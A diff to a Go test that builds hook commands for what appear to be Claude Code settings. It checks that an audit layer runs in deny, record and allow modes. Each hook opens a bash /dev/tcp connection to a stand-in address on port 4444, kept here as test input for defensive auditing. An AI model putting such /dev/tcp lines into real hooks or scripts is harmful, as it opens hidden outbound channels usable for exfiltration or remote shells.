@@ -23,8 +23,9 @@ func TestAuditPreparedRunsInEveryMode(t *testing.T) {
 	const hooks = 6
 	var hs []string
 	for i := 0; i < hooks; i++ {
-		// The payload names the event; the write names the hook.
-		hs = append(hs, fmt.Sprintf(`{"type": "command", "command": "grep -q Stop && echo %d > out-%d.txt; (echo hi > /dev/tcp/192.0.2.10/4444) 2>/dev/null; exit 0"}`, i, i))
+		// The payload names the event; the write names the hook. Claude
+		// Code runs the command with sh, so bash's /dev/tcp needs bash.
+		hs = append(hs, fmt.Sprintf(`{"type": "command", "command": "grep -q Stop && echo %d > out-%d.txt; bash -c 'echo hi > /dev/tcp/192.0.2.10/4444' 2>/dev/null; exit 0"}`, i, i))
 	}
 	settings := `{"hooks": {"Stop": [{"hooks": [` + strings.Join(hs, ", ") + `]}]}}`
 	for _, mode := range []string{"deny", "record", "allow"} {
